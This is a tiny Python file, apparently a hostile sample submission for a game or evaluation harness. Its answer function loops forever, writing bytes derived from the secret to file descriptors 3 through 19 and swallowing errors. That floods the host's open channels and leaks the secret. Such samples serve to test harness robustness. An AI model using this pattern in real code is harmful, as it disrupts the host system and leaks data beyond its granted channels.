"""Writes to its answer without end."""

import contextlib
import os


def answer(secret, message, context):
    while True:
        for descriptor in range(3, 20):
            with contextlib.suppress(OSError):
                os.write(descriptor, bytes([secret % 256]) * 65536)
